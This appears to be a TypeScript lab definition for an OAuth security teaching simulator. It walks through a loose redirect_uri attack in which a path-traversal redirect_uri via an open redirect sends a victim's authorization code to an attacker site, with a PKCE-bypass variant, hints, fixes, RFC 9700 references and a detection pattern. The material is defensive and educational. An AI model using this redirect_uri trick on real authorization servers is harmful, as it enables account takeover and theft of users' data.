import { herCall } from '../flows/mallory'
import { acmeId, adasBrowser, photoApi, photoprint } from '../flows/parties'
import { rfc } from '../words/specs'
import type { Lab } from './lab'
import type { Move } from './move'
import { adaGetsHerPhotos, adaPrints, adaReacts, malloryWho } from './moves'

/** It begins like the registered address. A browser takes the two dots for one step up, so it goes to /go. */
const throughDots = '{client}/callback/../go?to={elsewhere}/thanks'

const onTheHost = '{client}/go?to={elsewhere}/thanks'

/** An authorization request of Mallory’s own, in Photoprint’s name. */
const herRequest = (redirectUri: string, more = '') =>
  `{authorization-server}/auth?client_id=photoprint&response_type=code&scope=openid profile photos.read&state=prize${more}&redirect_uri=${redirectUri}`

/** A page of hers, and behind which link people get there. */
const lure = (to: string) => `{elsewhere}/prize?to=${to.replaceAll('&', '%26')}`

const adaOpens = (to: string): Move => ({ party: 'browser', act: { kind: 'open', address: lure(to) } })
const adaFollows = (to: string): Move => ({ party: 'browser', act: { kind: 'follow', href: to } })

const herForm = (redirect_uri: string) => ({
  grant_type: 'authorization_code',
  code: '{code}',
  redirect_uri,
  client_id: 'photoprint',
})

const herSwap = (redirectUri: string, more: Readonly<Record<string, string>> = {}): Move => ({
  party: 'mallory',
  act: {
    kind: 'send',
    request: {
      method: 'POST',
      url: '{authorization-server}/token',
      form: { ...herForm(redirectUri), ...more },
    },
  },
})

const herVisit: Move = { party: 'mallory', act: { kind: 'send', request: herCall() } }

/** A pair of her own: that of RFC 7636, Appendix B. */
const code_verifier = 'dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk'
const ownChallenge = '&code_challenge=E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM&code_challenge_method=S256'

export const looseRedirect: Lab = {
  id: 'loose-redirect',
  breaks: 'redirect',
  name: 'loose redirect_uri',
  title: 'A code, sent on to evil.test',
  lead: 'Mallory sends Ada to Acme ID with a redirect_uri of her own. It begins like that of Photoprint, and Acme ID looks no further.',
  parties: [adasBrowser, photoprint(), acmeId, photoApi, malloryWho()],
  world: { guard: 'comparesTheBeginning', pkce: 'off' },
  alsoOff: ['pkce: off', 'skipTargetCheck'],
  code: {
    file: 'lib/parties/authorization-server/guards/loose-redirect.ts',
    party: 'authorization-server',
    where: 'where it looks at a redirect_uri',
  },
  reactions: adaReacts,
  before: [
    {
      ...adaPrints,
      tells: {
        says: 'Ada prints her photos',
        text: 'She signs in at Acme ID and allows Photoprint to see her photos. Acme ID remembers both. Photoprint also has an address for its partners, /go?to=, which sends people on to wherever it says.',
      },
    },
  ],
  attack: [
    {
      ...adaOpens(herRequest(throughDots)),
      tells: {
        says: 'Mallory sends Ada a link',
        text: 'Ada opens a page on Mallory’s site, and it promises a prize. The button leads to Acme ID. Mallory has written the request herself, in Photoprint’s name.',
      },
    },
    {
      ...adaFollows(herRequest(throughDots)),
      tells: {
        says: 'Ada presses the button',
        text: 'The redirect_uri begins with Photoprint’s /callback, and then goes one step up, to /go. Ada has allowed all this before, so Acme ID asks her nothing. Photoprint’s /go sends her on, with the code.',
      },
    },
    {
      ...herSwap(throughDots),
      tells: {
        says: 'Mallory swaps the code',
        text: 'The code has come to her own site. She swaps it as Photoprint, with the same redirect_uri. Acme ID compares that with the request, which was hers.',
      },
    },
    {
      ...herVisit,
      tells: {
        says: 'She fetches Ada’s photos',
        text: 'The access token is good. Ada has seen a page that says thank you.',
      },
    },
  ],
  goal: { arrives: 'api-response', to: 'mallory', contains: 'First snow' },
  worked: 'Acme ID sent Ada’s code to an address that nobody has registered, and Mallory swapped it for tokens.',
  stopped: {
    refusedBy: 'authorization-server',
    wire: 'invalid_redirect_uri',
    note: { code: 'authorization.error', contains: 'redirect_uri' },
  },
  fixes: [
    {
      id: 'host',
      title: 'Compare the host instead',
      with: { guard: 'comparesTheHost' },
      right: false,
      told: 'The host is Photoprint’s, and /go is on it. One page that sends people on is enough, and most sites have one.',
    },
    {
      id: 'exact',
      title: 'Compare all of it, letter by letter',
      with: { guard: 'comparesAllOfIt' },
      right: true,
      told: 'Only what was registered is taken. Acme ID shows an error page, and sends nobody anywhere.',
    },
    {
      id: 'pkce',
      title: 'Turn PKCE on',
      with: { pkce: 'required' },
      right: false,
      told: 'PKCE ties the code to whoever began the sign-in, and here that is Mallory. She sends a code_challenge of her own, and has the verifier.',
    },
  ],
  variants: [
    {
      title: 'The same with /go itself as redirect_uri',
      script: [
        adaPrints,
        adaOpens(herRequest(onTheHost)),
        adaFollows(herRequest(onTheHost)),
        herSwap(onTheHost),
        herVisit,
      ],
    },
    {
      title: 'The same with a code_challenge of her own',
      script: [
        adaPrints,
        adaOpens(herRequest(throughDots, ownChallenge)),
        adaFollows(herRequest(throughDots, ownChallenge)),
        herSwap(throughDots, { code_verifier }),
        herVisit,
      ],
    },
  ],
  honest: [adaGetsHerPhotos],
  hints: [
    'An authorization request is an address. Anybody can write one, and have Ada open it.',
    'Acme ID looks only at how the redirect_uri begins. Photoprint has an address, /go?to=, that sends people on.',
    'Use /callback/../go?to= and your own site as redirect_uri. Then swap the code, with the very same redirect_uri.',
  ],
  tools: [
    { tool: 'lure', party: 'browser', opens: herRequest(throughDots) },
    {
      tool: 'send',
      method: 'POST',
      url: '{authorization-server}/token',
      form: herForm(throughDots),
    },
    { tool: 'send', method: 'GET', url: '{resource-server}/photos', authorization: 'Bearer {access_token}' },
  ],
  rule: {
    text: 'The server must compare a redirect_uri with the registered ones as exact strings. And neither it nor a client may have a page that sends people on to anywhere.',
    specs: [rfc(9700, '2.1'), rfc(9700, '4.1.3'), rfc(9700, '4.11.1')],
  },
  incident: {
    text: 'Keycloak’s check of redirect_uri could be passed by an address that was not registered.',
    source: 'CVE-2023-6291',
    at: 'https://www.cve.org/CVERecord?id=CVE-2023-6291',
  },
  find: {
    text: 'Look for checks of a redirect_uri that compare a part of it.',
    pattern: 'startsWith|\\.host ===',
    test: 'Ask with the registered address and something behind it, with /../ in it, and with another path on its host: no request may be answered by a redirect.',
  },
  stoppedBy: ['redirect_uri'],
}
